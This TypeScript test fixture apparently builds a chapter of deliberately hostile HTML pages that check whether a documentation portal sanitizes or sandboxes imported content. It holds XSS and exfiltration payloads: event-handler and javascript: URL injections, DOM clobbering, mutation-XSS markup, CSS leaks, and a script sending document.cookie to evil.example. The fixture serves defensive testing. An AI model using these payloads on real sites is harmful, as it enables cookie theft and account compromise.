import type { RowOf } from '../operation-types'

type Item = RowOf<'documentations'>

/** Kinds of attacks, one page each, in tree order. */
const hostileNames = [
  'scripts',
  'handlers',
  'addresses',
  'styles',
  'forms-and-frames',
  'clobbering',
  'mutation',
  'broken-markup',
] as const

/** A line that must be readable on every hostile page. */
const safe = '<p>This paragraph must be readable, whatever stands around it.</p>'

/**
 * Attacks within pages, one kind per page. A successful attack sets `stolen`, sends a request to `evil.example`, leaves
 * the frame or covers the portal.
 */
const hostilePages: Readonly<Record<(typeof hostileNames)[number], string>> = {
  scripts: `${safe}
<script>parent.document.title = 'stolen'; fetch('https://evil.example/' + document.cookie)</script>
<script src="https://evil.example/steal.js"></script>
<script type="module">import('https://evil.example/module.js')</script>
<script src="data:text/javascript,top.stolen=1"></script>
<svg><script>top.stolen = 1</script></svg>
<template><script>top.stolen = 1</script></template>
<noscript><p title="</noscript><img src=x onerror=top.stolen=1>">A paragraph</p></noscript>`,
  handlers: `${safe}
<img src="x" alt="A broken figure" onerror="top.stolen = 1">
<p onclick="top.stolen = 1" onpointerenter="top.stolen = 1">Move over this line.</p>
<details open ontoggle="top.stolen = 1"><summary>Open</summary>Details</details>
<svg onload="top.stolen = 1" width="10" height="10"><animate onbegin="top.stolen = 1" attributeName="x" dur="1s"></animate></svg>
<video autoplay onloadstart="top.stolen = 1"><source onerror="top.stolen = 1" src="x"></video>
<input autofocus onfocus="top.stolen = 1" aria-label="A field">
<p style="animation: spin 1s" onanimationstart="top.stolen = 1">A line that turns</p>`,
  addresses: `${safe}
<p><a href="javascript:top.stolen=1">Runs a script</a>, <a href="java&#10;script:top.stolen=1">runs one with a break in its name</a>,
<a href="&#x6A;avascript:top.stolen=1">runs one in other letters</a>, <a href="data:text/html,<script>top.stolen=1</script>">opens data</a>,
<a href="vbscript:msgbox(1)">runs an old one</a>, <a href="https://evil.example/" target="_top">leaves the portal</a>,
<a href="//evil.example/path">leaves without a scheme</a>, <a href="https://portal@evil.example/">pretends a host</a> and
<a href="/sandbox/reset" ping="https://evil.example/ping">pings</a>.</p>
<svg width="200" height="30"><a href="javascript:top.stolen=1"><text y="20">A link in a drawing</text></a></svg>
<map name="areas"><area shape="rect" coords="0,0,50,50" href="javascript:top.stolen=1" alt="An area"></map>
<math href="javascript:top.stolen=1"><mtext>A formula that is a link</mtext></math>`,
  styles: `${safe}
<style>@import url("https://evil.example/import.css"); html, body { display: none !important } h1 { background: url("https://evil.example/pixel") }</style>
<link rel="stylesheet" href="https://evil.example/leak.css">
<p style="position: fixed; inset: 0; z-index: 2147483647; background: white">This line must stay in the page.</p>
<p style="background-image: url(https://evil.example/pixel)">A line with a picture behind it</p>
<div style="position: absolute; top: -4000px; left: 0; width: 9000px; height: 9000px">A large box</div>
<style>input[value^="a"] { background: url("https://evil.example/a") } @font-face { font-family: leak; src: url("https://evil.example/font") }</style>`,
  'forms-and-frames': `${safe}
<form action="https://evil.example/" method="post"><label>Password <input name="password" type="password"></label><button formaction="https://evil.example/2">Send</button></form>
<iframe src="https://evil.example/" title="Elsewhere"></iframe>
<iframe srcdoc="<script>top.stolen=1</script>" title="Inside"></iframe>
<object data="https://evil.example/movie.swf"></object>
<embed src="https://evil.example/plugin">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/" target="_top">
<portal src="https://evil.example/"></portal>
<img src="https://evil.example/pixel.png" alt="A picture from elsewhere">
<video src="https://evil.example/film.mp4" controls></video>`,
  clobbering: `${safe}
<a id="location" href="https://evil.example/">location</a> <form id="document" name="body"><input name="parentNode"><input id="cookie" name="attributes"></form>
<img name="getElementById" alt="A name that is taken" src="data:,"> <p id="__proto__">A strange name</p> <p id="constructor">Another one</p>
<form id="parent"><input name="postMessage"></form> <a id="top"></a><a id="top" name="postMessage" href="javascript:top.stolen=1">top</a>
<h2 id="blending">Blending</h2><h2 id="blending">Blending once more, under the same name</h2>`,
  mutation: `${safe}
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.stolen=1&gt;"></mglyph></table></mtext></math>
<svg><foreignObject><p><style><a id="</style><img src=1 onerror=top.stolen=1>"></p></foreignObject></svg>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.stolen=1 src>">
<svg></p><style><g title="</style><img src onerror=top.stolen=1>">
<select><style></select><img src=1 onerror=top.stolen=1></style>`,
  'broken-markup': `${safe}
<table><tr><td><div><p>A table that never ends<ul><li>and a list in it
<b><i><u>Letters that are never closed <a href="scripts">and a link</a>
<h2 id="after">A heading inside all of it</h2>
<p title="an attribute without an end><b>x</b><!-- a comment without an end --!> &unknown; &#0; &#xD800; \u202Ereversed\u202C
<img src=1 onerror=top.stolen=1 alt=A
<p>The last line</p`,
}

const version = { line: 'helyx', version: '4.3' } as const
const chapter = 'imported'
const idOf = (name: string) => `doc_imported_${name.replaceAll('-', '_')}`
const titleOf = (name: string) => `Imported page: ${name.replaceAll('-', ' ')}`

const itemOf = (path: string, title: string, more: Pick<Item, 'id' | 'parent_id' | 'position'>): Item => ({
  ...version,
  ...more,
  path,
  previous_paths: [],
  title,
  kind: 'reference',
  format: 'html',
  headings: [],
  search_text: '',
  bucket: 'corvane-documentation',
  key: `${version.line}/${version.version}/${path}.html`,
  size_bytes: 4096,
  hidden: false,
  sync_status: 'ok',
  sync_error: null,
  synced_at: '2026-11-18T04:00:00Z',
  updated_at: '2026-06-02T07:00:00Z',
})

/** The hostile page of the contract's example, first in the chapter. */
const specified = 'as-specified'

/** A chapter of hostile pages in HELYX 4.3, added only by the scenario `hostile-pages`. */
export function hostileItems(): readonly Item[] {
  const root = itemOf(chapter, 'Imported pages', { id: idOf('pages'), parent_id: null, position: 90 })
  const pages = [specified, ...hostileNames].map((name, position) =>
    itemOf(`${chapter}/${name}`, titleOf(name), { id: idOf(name), parent_id: root.id, position }),
  )
  return [root, ...pages]
}

/** HTML of a page of `hostileItems`, else undefined; `example` is the contract's hostile page. */
export function hostileHtml({ id, title }: Item, example: string): string | undefined {
  if (id === idOf('pages')) return `<!doctype html><title>${title}</title><h1>${title}</h1>${safe}`
  if (id === idOf(specified)) return example
  const name = hostileNames.find((one) => idOf(one) === id)
  return name && `<!doctype html><title>${title}</title><h1>${title}</h1>${hostilePages[name]}`
}
